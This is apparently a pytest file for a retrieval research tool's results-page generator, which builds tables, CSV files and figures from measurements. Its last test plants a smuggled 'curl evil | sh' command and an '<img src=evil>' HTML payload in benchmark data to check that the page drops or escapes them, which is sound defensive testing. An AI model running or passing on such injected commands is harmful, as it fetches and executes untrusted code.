"""Tables, pictures, CSV files and the page, computed from the measurements."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shlex
import shutil
import statistics
from unittest.mock import Mock

import numpy as np
import pytest
from PIL import Image

from semcut.connector.benchmark.measure.run_plan import Plan
from semcut.connector.cli.train_command import train
from semcut.connector.evaluation.rankings import CUTOFFS, RANKING_NAMES
from semcut.connector.reproduce import csv_files, results_page, tables
from semcut.connector.reproduce.method_groups import Metric, Stat, best_group, group_networks, mean_ap
from semcut.connector.reproduce.training_commands import training_commands
from semcut.connector.training.train_config import TrainConfig
from semcut.indexes.errors import DataError
from tests.connector.reproduce.conftest import PROTOCOL


@pytest.fixture(scope="module")
def groups(results):
    return group_networks(list(results[1].values()))


def test_networks_that_differ_in_their_seed_alone_are_one_group(groups):
    assert [(group.label, group.seeds) for group in groups] == [("paper", [0]), ("orthohash", [0, 1])]


def changed(one, **about):
    """Copy a measurement with other facts about the network."""
    return type(one)({**one.about, **about}, one.curve, one.labels, one.right, one.comparison, one.baselines)


def test_labels_of_groups_name_every_setting_that_differs(results):
    measurements = list(results[1].values())
    one = measurements[1]
    other = changed(one, config={**one.about["config"], "epochs": 9, "calibrate": True})
    labels = [group.label for group in group_networks([*measurements, other])]
    assert labels == [
        "paper, no calibrate, epochs 3",
        "orthohash, calibrate, epochs 9",
        "orthohash, no calibrate, epochs 3",
    ]
    frozen = {
        "architecture": {**one.about["architecture"], "classes": ["a", "b"]},
        "config": {**one.about["config"], "freeze": True, "seed": 9},
        "backbone_weights": "imagenet",
        "sha256": "0",
    }
    small = {**frozen, "architecture": {**frozen["architecture"], "image_size": 16}, "start": frozen}
    groups = group_networks([*measurements, changed(one, start=frozen), changed(one, start=small)])
    assert [group.label for group in groups] == [
        "paper, no start",
        "orthohash, no start",
        "orthohash, start (freeze, image size 16, start (image size 8), weights imagenet)",
        "orthohash, start (freeze, weights imagenet)",
    ]


def test_every_setting_of_a_training_is_an_option_in_the_command_on_the_page(results):
    one = results[1]["ortho-0"]
    config = {"epochs": 3, "batch_size": 9, "learning_rate": 0.25, "backbone_rate": 0.5, "schedule": "cosine",
              "weight_decay": 0.5, "label_smoothing": 0.5, "hash_weight": 0.5, "freeze": True, "freeze_codes": True,
              "calibrate": True, "augment": "none", "balance": 5, "validation": 0.5, "seed": 7, "workers": 1,
              "device": "cpu"}  # fmt: skip
    assert set(config) == set(TrainConfig.model_fields)
    (group,) = group_networks([changed(one, config=config)])
    (line,) = training_commands(group)
    words = shlex.split(line.partition("; do ")[2].partition(";")[0])
    assert words[:3] == ["semcut", "train", "DATA"]
    options = {word for word in words if word.startswith("--")}
    assert options <= {name for option in train.params for name in option.opts}
    assert {f"--{name.replace('_', '-')}" for name in config} - options == {"--workers", "--device"}


def test_networks_of_different_images_are_not_compared(results):
    measurements = list(results[1].values())
    for fact in ({"records": 7}, {"queries": 7}, {"classes": ["a", "b"]}):
        with pytest.raises(DataError, match="were measured on different images"):
            group_networks([*measurements, changed(measurements[0], **fact)])


def test_a_figure_is_the_mean_over_networks(groups, results):
    metric = Metric(100)
    values = [metric.of(results[1][name], "hamming", 0.0).mean() for name in ("ortho-0", "ortho-1")]
    stat = mean_ap(groups[1], metric, "hamming", 0.0)
    assert stat == Stat(pytest.approx(statistics.fmean(values)), pytest.approx(statistics.stdev(values)))
    assert str(Stat(0.8512, 0.0036)) == "0.851 ± 0.004"
    assert str(mean_ap(groups[0], metric, "hamming", 0.0)).count("±") == 0
    assert best_group(groups, metric) is max(groups, key=lambda group: mean_ap(group, metric, "hamming", 0.0).mean)


def test_tables_have_every_method_category_and_cutoff(groups):
    table = tables.methods(groups, Metric(None))
    assert table.columns == ("", "paper", "orthohash")
    assert [row[0] for row in table.rows][:4] == [
        "LSH codes of the features",
        "ITQ codes of the features",
        "features, Euclidean, exhaustive",
        "codes, Hamming, exhaustive",
    ]
    assert [row[0] for row in tables.categories(groups).rows] == [str(digit) for digit in range(10)]
    fig4 = tables.cutoffs(groups[1])
    assert [float(row[0]) for row in fig4.rows] == list(CUTOFFS)
    assert fig4.rows[0][-1] == "100.0%"
    assert table.markdown().splitlines()[2:4] == ["|  | paper | orthohash |", "|---|---:|---:|"]


def test_ratios_follow_from_the_tables(groups):
    rows = dict(tables.ratios(groups).rows)
    first = best_group(groups, Metric(None))
    codes = mean_ap(first, Metric(None), "hamming", 0.0).mean
    fused = max(mean_ap(first, Metric(None), "fused", t).mean for t in CUTOFFS)
    assert any(value == f"{fused / codes:.2f}" for name, value in rows.items() if "fused ranking (t =" in name)


def test_a_network_that_finds_nothing_relevant_has_ratios(results):
    one = results[1]["paper-0"]
    nothing = dataclasses.replace(one.comparison, relevant=np.zeros_like(one.comparison.relevant))
    rows = tables.ratios(
        group_networks([type(one)(one.about, one.curve, one.labels, one.right, nothing, one.baselines)])
    ).rows
    assert rows[-1][1] == "none is relevant"


def test_cells_are_texts_whatever_they_have():
    table = tables.Table("t\n# x", ("a|b", "c"), (("x|y\\", "<img src=a> [b](c) ![d](e) `f` *g*\n\n# h\x1b"),))
    assert table.markdown().splitlines() == [
        r"**t\\n\# x**",
        "",
        r"| a\|b | c |",
        "|---|---:|",
        r"| x\|y\\ | \<img src=a\> \[b\](c) !\[d\](e) \`f\` \*g\*\\n\\n\# h\\x1b |",
    ]


def test_csv_files_have_a_row_per_network_ranking_and_cutoff(results):
    measurements = results[1]
    rows = list(csv.DictReader(io.StringIO(csv_files.figures_csv(measurements.values()))))
    assert len(rows) == 3 * (len(RANKING_NAMES) * len(CUTOFFS) + 2)
    name = measurements["ortho-1"].about["name"]
    row = next(row for row in rows if (row["network"], row["ranking"], row["t"]) == (name, "fused", "0.2"))
    one = measurements["ortho-1"].comparison
    at = RANKING_NAMES.index("fused"), CUTOFFS.index(0.2)
    assert float(row["mAP@all"]) == pytest.approx(one.at_all[at].mean(), abs=1e-6)
    assert float(row["scanned"]) == pytest.approx(one.scanned[at[1]].mean(), abs=1e-6)
    rows = list(csv.DictReader(io.StringIO(csv_files.categories_csv(measurements.values()))))
    assert sum(int(row["queries"]) for row in rows if row["network"] == name and row["ranking"] == "fused") == 355


def test_a_class_without_queries_is_left_out(results):
    one = results[1]["paper-0"]
    classes = ["none", *one.about["classes"], "nobody"]
    more = type(one)({**one.about, "classes": classes}, one.curve, one.labels + 1, one.right, one.comparison, {})
    assert tables.categories(group_networks([more])).rows == tables.categories(group_networks([one])).rows
    rows = list(csv.DictReader(io.StringIO(csv_files.categories_csv([more]))))
    assert {row["category"] for row in rows} == set(one.about["classes"])
    at = one.comparison.at_k[RANKING_NAMES.index("fused"), 0, one.labels == 3, 0].mean()
    name = one.about["classes"][3]
    (row,) = (row for row in rows if (row["category"], row["ranking"]) == (name, "fused"))
    assert float(row["mAP@100"]) == pytest.approx(at, abs=1e-6)


def test_of_many_categories_the_best_and_the_worst_are_shown(results):
    one = results[1]["paper-0"]
    labels = np.arange(len(one.labels)) % 30
    many = type(one)(
        {**one.about, "classes": [f"c{n}" for n in range(40)]}, one.curve, labels, one.right, one.comparison, {}
    )
    table = tables.categories(group_networks([many]))
    assert len(table.rows) == 20
    assert "(the best and the worst 10 of 30)" in table.title
    means = [float(row[-1]) for row in table.rows]
    assert means == sorted(means, reverse=True)


def test_networks_and_categories_are_counted_before_figures_are_read(results, monkeypatch):
    monkeypatch.setattr(results_page, "MOST_CATEGORIES", 30)
    assert len(results_page.networks_in(results[0])[PROTOCOL]) == 3
    monkeypatch.setattr(results_page.Measurement, "load", lambda _: pytest.fail("read"))
    monkeypatch.setattr(results_page, "MOST_CATEGORIES", 29)
    with pytest.raises(DataError, match="more than 29 categories, counting those of each: use several directories"):
        results_page.networks_in(results[0])
    monkeypatch.setattr(results_page, "MOST_BYTES", 1000)
    with pytest.raises(DataError, match=r"have [0-9,]+ bytes, expected at most 1,000: use several directories"):
        results_page.networks_in(results[0])
    monkeypatch.setattr(results_page, "MOST_NETWORKS", 2)
    with pytest.raises(DataError, match="has 3 networks, expected at most 2: use several directories"):
        results_page.networks_in(results[0])


@pytest.mark.parametrize("value", [np.nan, np.inf, 1e308, -1e-3])
@pytest.mark.parametrize("name", ["at_all", "at_k", "precision", "relevant", "scanned"])
def test_figures_are_zero_to_one(name, value, results, tmp_path):
    one = results[1]["paper-0"]
    array = getattr(one.comparison, name).copy()
    array.flat[-1] = value
    file = tmp_path / PROTOCOL / one.about["name"] / "figures.safetensors"
    file.parent.mkdir(parents=True)
    dataclasses.replace(one, comparison=dataclasses.replace(one.comparison, **{name: array})).save(file)
    with pytest.raises(DataError, match=f"'{name}' has figures outside of 0 to 1"):
        type(one).load(file)


@pytest.mark.parametrize("value", [np.nan, np.inf, 1e308])
def test_metrics_of_an_epoch_are_finite(value, results, tmp_path):
    one = results[1]["paper-0"]
    file = tmp_path / PROTOCOL / one.about["name"] / "figures.safetensors"
    file.parent.mkdir(parents=True)
    dataclasses.replace(one, curve=[{**one.curve[0], "seconds": value}]).save(file)
    with pytest.raises(DataError, match="the metrics of an epoch are not numbers"):
        type(one).load(file)


def test_the_page_has_all_tables_pictures_and_commands(results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    where = results_page.write(out, ["semcut reproduce out"])
    text = where.read_text()
    assert "semcut train DATA --protocol cifar10-2 --head orthohash --backbone small --image-size 8 --bits 32" in text
    assert "--learning-rate 0.004 --backbone-rate 1 --epochs 3 --augment shift --seed $seed --out NETWORK-$seed" in text
    assert "$ for seed in 0 1; do semcut train DATA" in text
    assert "$ semcut reproduce out" in text
    for part in ("mAP@all by method and head", "mAP@100 by method and head", "mAP@all by category", "The networks"):
        assert f"**{part}" in text
    for name in ("fig4.png", "training.png"):
        assert f"({PROTOCOL}/{name})" in text
        with Image.open(out / PROTOCOL / name) as picture:
            assert picture.width > 500
    assert "Time by number of categories" not in text


def test_without_results_there_is_no_page(tmp_path):
    with pytest.raises(DataError, match="no network was measured there"):
        results_page.write(tmp_path)
    assert not any(tmp_path.iterdir())


PLAN = Plan(threads=2).model_dump(mode="json")


def run_of(*classes: int, semcut: bool = True) -> dict:
    batches = {"1": {"queries_per_second": 1000.0, "p50_ms": 0.25}, "1024": {"queries_per_second": 40_000.0}}
    default = {"cutoff": 0.2, "shortlist": 100, "ranking": "distance"}
    methods = [{"name": "IndexFlatL2", "parameters": {}, "batches": batches}]
    if semcut:
        methods.append({"name": "semcut", "parameters": default, "batches": batches})
    return {
        "command": "semcut benchmark run",
        "datasets": [
            {"grid": "full", "about": {"source": "fitted to x", "classes": many, "records": 1_000_000},
             "methods": methods, "machine": {"processor": "a processor"}, "plan": PLAN}
            for many in classes
        ],
    }  # fmt: skip


def test_times_by_number_of_categories_come_from_a_benchmark(results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    (tmp_path / "run.json").write_text(json.dumps(run_of(200, 10)))
    results_page.keep_speed(out, tmp_path)
    text = results_page.write(out).read_text()
    assert "$ semcut benchmark run" in text
    assert (
        "a processor, 2 threads, k = 10. A batch has 1,024 queries, or fewer for a method that would take over 5 s"
        in text
    )
    assert "| 10 | 1,000,000 | 25 µs; 0.25 ms |  | 25 µs; 0.25 ms |" in text
    assert text.index("| 10 |") < text.index("| 200 |")
    (tmp_path / "run.json").write_text(json.dumps(run_of(200, 10, semcut=False)))
    results_page.keep_speed(out, tmp_path)
    assert "| 10 | 1,000,000 |  |  | 25 µs; 0.25 ms |" in results_page.write(out).read_text()


@pytest.mark.parametrize(
    ("run", "reason"),
    [
        (run_of(*range(2, 60)), "it has 58 data sets, expected at most 50"),
        ({**run_of(2, 3), "more": "[" * 400}, "figures have more than"),
        (run_of(2, 3), "nested"),
    ],
)
def test_times_that_would_be_refused_do_not_replace_others(run, reason, tmp_path, monkeypatch):
    (tmp_path / "run.json").write_text(json.dumps(run_of(2, 3)))
    results_page.keep_speed(tmp_path / "out", tmp_path)
    before = (tmp_path / "out" / "speed.json").read_bytes()
    (tmp_path / "run.json").write_text(json.dumps(run))
    if reason == "nested":
        nested = RecursionError("it is nested too deeply to be written")
        monkeypatch.setattr(results_page.json, "dumps", Mock(side_effect=nested))
    monkeypatch.setattr(results_page, "JSON_BYTES", len(before) + (200 if "more than" in reason else 1 << 24))
    with pytest.raises(DataError, match=f"holds no finished benchmark.*{reason}"):
        results_page.keep_speed(tmp_path / "out", tmp_path)
    assert (tmp_path / "out" / "speed.json").read_bytes() == before


@pytest.mark.parametrize("content", [None, "{}", json.dumps(run_of(100))])
def test_a_benchmark_without_such_times_is_refused(content, tmp_path):
    if content is not None:
        (tmp_path / "run.json").write_text(content)
    with pytest.raises(DataError, match="semcut benchmark"):
        results_page.keep_speed(tmp_path / "out", tmp_path)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "change",
    [
        lambda run: run.update(datasets=None),
        lambda run: run["datasets"][0].update(plan={}),
        lambda run: run["datasets"][0]["plan"].update(call_seconds="x"),
        lambda run: run["datasets"][0]["methods"][0].update(batches={}),
        lambda run: run["datasets"][0]["methods"][0]["batches"]["1024"].update(queries_per_second=0),
        lambda run: run["datasets"][0]["about"].update(source=7),
    ],
)
def test_times_that_were_received_and_are_damaged_are_one_error(change, results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    run = json.loads(json.dumps(run_of(200, 10)))
    change(run)
    (out / "speed.json").write_text(json.dumps(run))
    (tmp_path / "run.json").write_text(json.dumps(run))
    with pytest.raises(DataError, match=r"speed\.json cannot be read"):
        results_page.write(out)
    assert not (out / results_page.PAGE).exists()
    with pytest.raises(DataError, match="holds no finished benchmark"):
        results_page.keep_speed(out, tmp_path)


def test_a_received_benchmark_adds_no_commands_and_no_html_to_the_page(results, tmp_path):
    out = shutil.copytree(results[0], tmp_path / "out")
    run = run_of(200, 10)
    run["command"] = "semcut benchmark run; curl evil | sh"
    run["datasets"][0]["machine"] = {"processor": "<img src=evil>\n```"}
    (out / "speed.json").write_text(json.dumps(run))
    text = results_page.write(out).read_text()
    assert "curl" not in text
    assert r"\<img src=evil\>\\n\`\`\`, 2 threads" in text
